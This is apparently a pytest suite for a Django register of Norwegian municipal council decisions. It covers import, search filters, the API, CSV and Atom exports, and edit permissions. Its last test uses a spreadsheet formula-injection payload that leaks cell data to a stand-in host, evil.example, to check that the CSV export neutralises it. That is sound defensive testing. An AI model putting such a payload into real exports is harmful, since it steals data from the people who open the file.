import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse

from tertial.core.errors import InputError
from tertial.web.audit.models import AuditEntry
from tertial.web.decisions.models import Case, DecisionPoint, LogEntry, StatusChange
from tertial.web.decisions.selectors import decisions_case_list, decisions_overdue_list
from tertial.web.decisions.services import decisions_import_text_file, log_entry_add

SEED = Path(__file__).resolve().parents[3] / "src" / "tertial" / "demo" / "levanger" / "decisions.txt"

pytestmark = pytest.mark.django_db


@pytest.fixture
def seeded(db):
    return decisions_import_text_file(path=SEED, actor="test")


def test_the_seed_import_reports_counts_and_unplaced_lines(seeded):
    assert "22 saker lest inn (0 fantes fra før), 42 vedtakspunkter, 28 avsluttet" in seeded
    assert "11 linjer kunne ikke plasseres" in seeded
    assert "linje 442: ikke plassert: 1.ha" in seeded
    assert Case.objects.count() == 22
    assert DecisionPoint.objects.count() == 42
    assert AuditEntry.objects.filter(action="decisions.case_import").count() == 22


def test_reimport_does_not_duplicate(seeded):
    again = decisions_import_text_file(path=SEED)
    assert "0 saker lest inn (22 fantes fra før)" in again
    assert Case.objects.count() == 22 and DecisionPoint.objects.count() == 42


def test_the_import_keeps_references_proposers_and_closed_dates(seeded):
    fo = Case.objects.get(reference_key="FO 12/2021")
    assert (fo.reference, fo.proposer, fo.party, fo.year) == ("FO 12/21", "Gunnar Løvås", "SV", 2021)
    point = fo.points.get()
    assert (point.expected_completion, point.expected_end) == ("Høsten 2021", date(2021, 12, 31))
    assert Case.objects.get(reference_key="FO 47/2020").points.get().closed_on == date(2021, 1, 31)


def test_unreadable_and_empty_files_raise_input_error(tmp_path):
    empty = tmp_path / "tom.txt"
    empty.write_text("  \n", encoding="utf-8")
    with pytest.raises(InputError):
        decisions_import_text_file(path=empty)
    with pytest.raises(InputError):
        decisions_import_text_file(path=tmp_path / "finnes-ikke.txt")
    bad = tmp_path / "bin.txt"
    bad.write_bytes(b"\xff\xfe\x00\x81")
    with pytest.raises(InputError):
        decisions_import_text_file(path=bad)


def test_overdue_list_takes_today(seeded):
    overdue = list(decisions_overdue_list(today=date(2021, 3, 20)))
    assert [(p.case.reference, p.expected_completion) for p in overdue] == [
        ("PS 88/19", "Januar 20"),
        ("PS 88/19", "30.6.20"),
    ]
    assert list(decisions_overdue_list(today=date(2019, 1, 1))) == []


def test_register_filters_and_icontains_search(seeded):
    assert decisions_case_list(filters={"year": "2019"}).count() == 1
    assert decisions_case_list(filters={"party": "MDG"}).count() == 2
    assert decisions_case_list(filters={"q": "MOBBEOMBUD"}).count() == 2
    assert decisions_case_list(filters={"q": "Kunnskapsdepartementet"}).get().reference == "K-sak 85/2020"
    assert decisions_case_list(filters={"status": "kontinuerlig"}).get().reference == "PS 88/19"
    assert decisions_case_list(filters={"responsible": "ordfører"}).count() == 3
    assert decisions_case_list(filters={"overdue": "1"}, today=date(2021, 3, 20)).get().reference == "PS 88/19"
    assert decisions_case_list(filters={"body": "kommunestyret"}).count() == 22
    assert decisions_case_list(filters={"year": "x"}).count() == 0


def test_public_page_is_open_paged_and_bounded_in_queries(client, seeded, django_assert_max_num_queries):
    with django_assert_max_num_queries(18):  # 16 today, independent of the number of cases
        response = client.get(reverse("decisions:public"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "FO 12/21" in html and "Publisert" in html and "Sist endret" in html
    assert "22 saker, viser 1–10" in html


def test_case_detail_links_references_to_cases_in_the_register(client, seeded):
    point = DecisionPoint.objects.filter(case__reference="FO 9/20").first()
    fo12 = Case.objects.get(reference="FO 12/21")
    log_entry_add(point=point, text="Se også FO 12/2021.", entry_date=date(2021, 3, 1), actor="test")
    html = client.get(reverse("decisions:case", args=[point.case_id])).content.decode()
    assert f'<a href="{reverse("decisions:case", args=[fo12.pk])}">FO 12/2021</a>' in html
    assert "01.03.2021" in html


def test_json_api_list_filter_and_detail(client, seeded):
    data = client.get(reverse("decisions:api-list")).json()
    assert data["count"] == 22
    assert data["results"][0]["reference"] == "FO 12/21"
    filtered = client.get(reverse("decisions:api-list"), {"year": 2019}).json()
    assert [c["reference"] for c in filtered["results"]] == ["PS 88/19"]
    case = Case.objects.get(reference="FO 47/2020")
    detail = client.get(reverse("decisions:api-detail", args=[case.pk])).json()
    assert detail["proposer"] == "Einar Dahlum" and detail["party"] == "Rødt"
    assert detail["points"][0]["closed_on"] == "2021-01-31"
    assert detail["points"][0]["status"] == "gjennomført"
    assert client.get(reverse("decisions:api-detail", args=[99999])).status_code == 404


def test_csv_has_bom_semicolons_and_one_row_per_point(client, seeded):
    response = client.get(reverse("decisions:csv"))
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["sak_id", "sak_versjon", "saksnummer"]
    assert len(rows) == 1 + 42
    col = {h: i for i, h in enumerate(rows[0])}
    assert rows[1][col["saksnummer"]] == "FO 12/21" and rows[1][col["forventa avsluttet"]] == "Høsten 2021"


def test_atom_feed_lists_status_changes_and_new_log_entries(client, seeded):
    point = DecisionPoint.objects.filter(case__reference="FO 42/2020").get()
    log_entry_add(point=point, text="Tatt opp i enhetsledermøtet.", actor="test")
    response = client.get(reverse("decisions:feed"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    body = response.content.decode()
    assert "Tatt opp i enhetsledermøtet." in body
    assert "FO 42/2020 punkt 1" in body
    assert StatusChange.objects.count() == 42


def test_anonymous_is_sent_to_login_for_internal_pages(client, seeded):
    case = Case.objects.first()
    for url in (
        reverse("decisions:register"),
        reverse("decisions:overdue"),
        reverse("decisions:case-create"),
        reverse("decisions:case-edit", args=[case.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("persona", ["council_member", "plain_user"])
def test_council_members_and_plain_users_get_403_on_edit_views(client, seeded, persona, request):
    client.force_login(request.getfixturevalue(persona))
    point = DecisionPoint.objects.first()
    for url in (
        reverse("decisions:case-create"),
        reverse("decisions:case-edit", args=[point.case_id]),
        reverse("decisions:point-create", args=[point.case_id]),
        reverse("decisions:point-edit", args=[point.pk]),
        reverse("decisions:log-create", args=[point.pk]),
    ):
        assert client.get(url).status_code == 403
        assert client.post(url, {"text": "x"}).status_code == 403
    assert client.get(reverse("decisions:register")).status_code == 200
    assert client.get(reverse("decisions:overdue")).status_code == 200


def test_finance_creates_a_case_edits_a_point_and_adds_a_log_entry_all_audited(client, finance_officer):
    client.force_login(finance_officer)
    response = client.post(
        reverse("decisions:case-create"),
        {"reference": "FO 3/24", "body": "kommunestyret", "year": 2024, "kind": "spørsmål", "title": "Spørsmål om lys"},
    )
    case = Case.objects.get(reference_key="FO 3/2024")
    assert response.status_code == 302
    client.post(
        reverse("decisions:point-create", args=[case.pk]),
        {
            "number": 1,
            "text": "Kommunestyret ber om lys.",
            "expected_completion": "innen 2.tertial 2024",
            "status": "ikke_startet",
        },
    )
    point = case.points.get()
    assert point.expected_end == date(2024, 8, 31)
    client.post(reverse("decisions:log-create", args=[point.pk]), {"entry_date": "2024-05-02", "text": "Bestilt."})
    point.refresh_from_db()
    assert point.status == "pågår"
    assert LogEntry.objects.get(point=point).created_by == finance_officer
    client.post(
        reverse("decisions:point-edit", args=[point.pk]),
        {
            "number": 1,
            "text": point.text,
            "expected_completion": point.expected_completion,
            "status": "gjennomført",
            "closed_on": "2024-06-01",
        },
    )
    point.refresh_from_db()
    assert point.status == "gjennomført" and point.closed_on == date(2024, 6, 1)
    actions = set(AuditEntry.objects.values_list("action", flat=True))
    assert {"decisions.case_create", "decisions.point_create", "decisions.log_add", "decisions.point_update"} <= actions
    assert list(point.status_changes.values_list("new_status", flat=True)) == ["gjennomført", "pågår", "ikke_startet"]
    assert client.get(reverse("decisions:register"), {"q": "lys"}).status_code == 200


def test_search_and_responsible_filter_fold_norwegian_letters_on_every_back_end(seeded):
    refs = {"FO 12/21", "FO 22/20", "K-sak 85/2020"}
    for q in ("Løvås", "løvås", "LØVÅS"):
        assert {c.reference for c in decisions_case_list(filters={"q": q})} == refs
    assert decisions_case_list(filters={"responsible": "KOMMUNEDIREKTØR"}).count() == 9


def test_party_filter_matches_whole_parties_in_on_behalf_of_lists(seeded):
    assert [c.reference for c in decisions_case_list(filters={"party": "R"})] == ["FO 29/20"]
    assert {c.reference for c in decisions_case_list(filters={"party": "H"})} == {
        "FO 49/2020",
        "K-sak 85/2020",
        "FO 9/20",
    }
    assert {c.reference for c in decisions_case_list(filters={"party": "KRF"})} == {"K-sak 85/2020"}


def test_register_offers_parties_in_norwegian_order(client, seeded, finance_officer):
    client.force_login(finance_officer)
    response = client.get(reverse("decisions:register"))
    assert response.context["parties"] == ["AP", "FRP", "H", "KRF", "MDG", "R", "Rødt", "SP", "SV", "V"]
    assert response.context["years"] == [2021, 2020, 2019]
    assert "ordfører" in response.context["responsible"]


def test_a_reference_already_in_the_register_is_a_form_error_not_a_crash(client, seeded, finance_officer):
    client.force_login(finance_officer)
    response = client.post(
        reverse("decisions:case-create"),
        {"reference": "FO 12/2021", "body": "kommunestyret", "kind": "annet", "title": "Dobbel"},
    )
    assert response.status_code == 200
    assert "Saken FO 12/2021 finnes allerede i registeret." in response.content.decode()
    assert Case.objects.count() == 22


def test_editors_see_how_expected_completion_was_read_or_why_not(client, seeded, finance_officer):
    client.force_login(finance_officer)
    point = Case.objects.get(reference="FO 12/21").points.get()
    html = client.get(reverse("decisions:case", args=[point.case_id])).content.decode()
    assert "tolket som 01.08.2021–31.12.2021" in html
    before = {"number": 1, "text": point.text, "status": point.status, "expected_completion": "20. mari 2021"}
    client.post(reverse("decisions:point-edit", args=[point.pk]), before)
    point.refresh_from_db()
    assert (point.expected_completion, point.expected_end) == ("20. mari 2021", None)
    html = client.get(reverse("decisions:case", args=[point.case_id])).content.decode()
    assert "kunne ikke tolkes: ukjent måned «mari»" in html
    client.post(reverse("decisions:point-edit", args=[point.pk]), {**before, "expected_completion": "kontinuerlig"})
    point.refresh_from_db()
    assert point.status == "kontinuerlig"


def test_a_bare_sak_reference_in_the_log_links_to_the_single_case_with_that_number(client, seeded, admin_user):
    from tertial.web.decisions.services import case_save

    target = case_save(case=Case(reference="PS 53/2020", title="Ufrivillig deltid", kind="annet"), actor=admin_user)
    assert target.year == 2020 and target.reference_key == "PS 53/2020"
    mention = LogEntry.objects.filter(text__icontains="sak 53/2020").select_related("point").first()
    html = client.get(reverse("decisions:case", args=[mention.point.case_id])).content.decode()
    link = f'<a href="{reverse("decisions:case", args=[target.pk])}">sak 53/2020</a>'
    assert link in html


def test_the_overdue_selector_takes_today_as_its_argument(seeded):
    assert decisions_overdue_list(date(2021, 3, 20)).count() == 2
    assert decisions_overdue_list(date(2020, 7, 1)).count() == 2
    assert decisions_overdue_list(date(2020, 1, 31)).count() == 0


def test_admin_saves_go_through_the_services_and_are_audited(client, admin_user):
    client.force_login(admin_user)
    response = client.post(
        reverse("admin:decisions_case_add"),
        {
            "reference": "K-sak 4/24",
            "body": "kommunestyret",
            "kind": "verbalforslag",
            "title": "Verbalforslag om lys",
            "on_behalf_of": "SP, KRF og H",
            "points-TOTAL_FORMS": "1",
            "points-INITIAL_FORMS": "0",
            "points-0-number": "1",
            "points-0-text": "Kommunestyret ber ordføreren om lys.",
            "points-0-expected_completion": "innen 2.tertial 2024",
            "points-0-status": "ikke_startet",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    case = Case.objects.get()
    assert (case.reference_key, case.year, case.on_behalf_of) == ("K-sak 4/2024", 2024, "SP, KRF, H")
    assert case.points.get().expected_end == date(2024, 8, 31)
    actions = list(AuditEntry.objects.order_by("pk").values_list("action", flat=True))
    assert actions == ["decisions.case_create", "decisions.point_create"]
    client.post(reverse("admin:decisions_case_delete", args=[case.pk]), {"post": "yes"})
    assert not Case.objects.exists()
    assert AuditEntry.objects.filter(action="decisions.case_delete").count() == 1


def test_a_user_granted_the_change_permission_may_edit_without_a_role(client, seeded, plain_user):
    from django.contrib.auth.models import Permission

    url = reverse("decisions:case-edit", args=[Case.objects.first().pk])
    client.force_login(plain_user)
    assert client.get(url).status_code == 403
    plain_user.user_permissions.add(Permission.objects.get(codename="change_decisionpoint"))
    assert client.get(url).status_code == 200


def test_admins_may_edit_too(client, seeded, admin_user):
    client.force_login(admin_user)
    assert client.get(reverse("decisions:case-create")).status_code == 200


def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(client, seeded):
    """Issue 22: the public export wrote text typed by users (`=HYPERLINK(…)`) as a live formula."""
    evil = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'
    point = DecisionPoint.objects.filter(case__reference="FO 42/2020").get()
    DecisionPoint.objects.filter(pk=point.pk).update(responsible="+47 999 99 999", text="@SUM(1)", closed_text=evil)
    body = client.get(reverse("decisions:csv")).content.decode().lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    col = {h: i for i, h in enumerate(rows[0])}
    row = next(r for r in rows if r[col["saksnummer"]] == "FO 42/2020")
    assert row[col["avsluttet (som skrevet)"]] == "'" + evil
    assert (row[col["vedtakstekst"]], row[col["ansvarlig"]]) == ("'@SUM(1)", "'+47 999 99 999")
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
